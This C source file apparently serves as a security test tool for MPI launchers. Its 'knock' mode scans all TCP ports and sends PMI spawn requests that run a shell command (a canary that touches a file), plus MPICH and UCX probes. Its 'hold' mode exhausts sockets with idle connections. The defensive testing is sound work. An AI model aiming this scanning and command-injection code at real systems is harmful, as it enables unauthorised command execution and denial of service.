/*
 * A process that is not in a session, and tries attacks that once worked:
 *
 *     stranger knock HOST        on every open TCP port: asks for a command to be run (PMI), for the environment (the
 *                                control port of MPICH's mpiexec), and speaks as UCX. Prints the open ports.
 *     stranger names             prints the sockets in this network namespace that listen or have a name
 *     stranger hold KIND FILE    connects to all of these (KIND: tcp, unix), many times, and sends nothing, until
 *                                standard input ends. Creates FILE when it holds something.
 *
 * Exit status: 0: there was something; 1: nothing.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define TOGETHER 512
#define EACH 40
#define MOST_NAMES 4096

/* ---- knock ---- */

static int begin(const char *host, unsigned port)
{
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

    inet_pton(AF_INET, host, &address.sin_addr);
    if (fd >= 0 && connect(fd, (struct sockaddr *)&address, sizeof(address)) && errno != EINPROGRESS) {
        close(fd);
        fd = -1;
    }
    return fd;
}

static void say(const char *host, unsigned port, const void *bytes, size_t length, bool more)
{
    static const char spawn[] = "cmd=init pmi_version=1 pmi_subversion=1\ncmd=get_my_kvsname\n"
                                "mcmd=spawn\nnprocs=1\nexecname=/bin/sh\ntotspawns=1\nspawnssofar=1\nargcnt=2\n"
                                "arg1=-c\narg2=touch \"$STRANGER_FILE\"\npreput_num=0\ninfo_num=0\nendcmd\n";
    int fd = begin(host, port);
    struct pollfd ready = {fd, POLLOUT, 0};
    char answer[4096];

    if (fd >= 0 && poll(&ready, 1, 1000) > 0 && send(fd, bytes, length, MSG_NOSIGNAL) == (ssize_t)length) {
        if (more)
            send(fd, spawn, sizeof(spawn) - 1, MSG_NOSIGNAL);
        ready.events = POLLIN;
        if (poll(&ready, 1, 300) > 0 && recv(fd, answer, sizeof(answer), 0) > 0)
            printf("port %u answers\n", port);
    }
    if (fd >= 0)
        close(fd);
}

static void attack(const char *host, unsigned port)
{
    static const uint8_t ucx[] = {0x78, 0x56, 0x34, 0x12, 0xbe, 0xba, 0xfe, 0xca, 0x20, 29, 0, 0, 0, 1,    0,
                                  0,    0,    0,    77,   0,    0,    0,    0,    0,    0,  0, 2, 0, 0x30, 0x39};
    char hello[32];

    printf("port %u is open\n", port);
    for (unsigned id = 0; id < 3; id++)
        say(host, port, hello, (size_t)snprintf(hello, sizeof(hello), "cmd=initack pmiid=%u\n", id), true);
    say(host, port, "\0\0\0", 4, false);
    say(host, port, ucx, sizeof(ucx), false);
}

/* Whether the socket is connected with itself, as TCP may do on one host. */
static bool is_own(int fd)
{
    struct sockaddr_in own = {0}, other = {0};
    socklen_t length = sizeof(own);

    return !getsockname(fd, (struct sockaddr *)&own, &length) && !getpeername(fd, (struct sockaddr *)&other, &length) &&
           own.sin_port == other.sin_port;
}

static int knock(const char *host)
{
    bool open = false;

    for (unsigned first = 1; first < 65536; first += TOGETHER) {
        struct pollfd fds[TOGETHER];
        unsigned count = 0;

        for (unsigned port = first; port < first + TOGETHER && port < 65536; port++, count++)
            fds[count] = (struct pollfd){begin(host, port), POLLOUT, 0};
        poll(fds, count, 1000);
        for (unsigned i = 0; i < count; i++) {
            int error = 0;
            socklen_t length = sizeof(error);

            if (fds[i].fd < 0)
                continue;
            if (poll(&fds[i], 1, 0) > 0 && !getsockopt(fds[i].fd, SOL_SOCKET, SO_ERROR, &error, &length) && !error &&
                !is_own(fds[i].fd)) {
                attack(host, first + i);
                open = true;
            }
            close(fds[i].fd);
        }
    }
    return open ? 0 : 1;
}

/* ---- names and hold ---- */

static char names[MOST_NAMES][160];
static unsigned name_count;

static bool know(const char *name)
{
    for (unsigned i = 0; i < name_count; i++) {
        if (!strcmp(names[i], name))
            return true;
    }
    if (name_count < MOST_NAMES)
        snprintf(names[name_count++], sizeof(*names), "%s", name);
    return false;
}

static void read_tcp(const char *path, int family, void (*visit)(const char *name))
{
    FILE *file = fopen(path, "re");
    char line[512], name[160], word[64];

    while (file && fgets(line, sizeof(line), file)) {
        unsigned port, state, address;

        if (sscanf(line, " %*d: %63[0-9A-F]:%x %*[0-9A-F]:%*x %x", word, &port, &state) != 3 || state != 0x0a)
            continue;
        address = family == AF_INET ? (unsigned)strtoul(word, NULL, 16) : 0;
        if (!address)
            address = htonl(INADDR_LOOPBACK);
        snprintf(name, sizeof(name), "tcp %s %u", inet_ntoa((struct in_addr){address}), port);
        visit(name);
    }
    if (file)
        fclose(file);
}

static void look(void (*visit)(const char *name))
{
    FILE *file = fopen("/proc/net/unix", "re");
    char line[512], name[160], path[120];

    while (file && fgets(line, sizeof(line), file)) {
        unsigned type, state, flags;

        if (sscanf(line, "%*s %*s %*s %x %x %x %*s %119s", &flags, &type, &state, path) != 4)
            continue;
        if (state == 1 && *path == '@') { /* unconnected: it listens, or takes datagrams */
            snprintf(name, sizeof(name), "%s %s", type == SOCK_DGRAM ? "datagrams" : "unix", path);
            visit(name);
        }
    }
    if (file)
        fclose(file);
    read_tcp("/proc/net/tcp", AF_INET, visit);
    read_tcp("/proc/net/tcp6", AF_INET6, visit);
}

static void print_new(const char *name)
{
    if (!know(name))
        puts(name);
}

static const char *held, *kind;

static void hold_one(const char *name)
{
    struct sockaddr_un local = {.sun_family = AF_UNIX};
    struct sockaddr_in remote = {.sin_family = AF_INET};
    bool is_unix = !strncmp(name, "unix ", 5);
    char host[64];
    unsigned port;

    if (strncmp(name, kind, strlen(kind)) || know(name) || (!is_unix && sscanf(name, "tcp %63s %u", host, &port) != 2))
        return;
    for (int i = 0; i < EACH; i++) {
        int fd = socket(is_unix ? AF_UNIX : AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);

        if (is_unix) {
            size_t length = strlen(name + 6);

            memcpy(local.sun_path + 1, name + 6, length);
            connect(fd, (struct sockaddr *)&local, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + length));
        } else {
            remote.sin_port = htons((uint16_t)port);
            inet_pton(AF_INET, host, &remote.sin_addr);
            connect(fd, (struct sockaddr *)&remote, sizeof(remote));
        }
    }
    close(open(held, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
}

static int hold(const char *of, const char *file)
{
    struct rlimit most;
    struct pollfd end = {0, POLLIN, 0};

    getrlimit(RLIMIT_NOFILE, &most);
    most.rlim_cur = most.rlim_max;
    setrlimit(RLIMIT_NOFILE, &most);
    kind = of;
    held = file;
    do
        look(hold_one);
    while (poll(&end, 1, 2) == 0);
    return name_count ? 0 : 1;
}

int main(int count, char **words)
{
    if (count == 3 && !strcmp(words[1], "knock"))
        return knock(words[2]);
    if (count == 4 && !strcmp(words[1], "hold"))
        return hold(words[2], words[3]);
    if (count == 2 && !strcmp(words[1], "names")) {
        look(print_new);
        return name_count ? 0 : 1;
    }
    fprintf(stderr, "stranger knock HOST | names | hold KIND FILE\n");
    return 2;
}
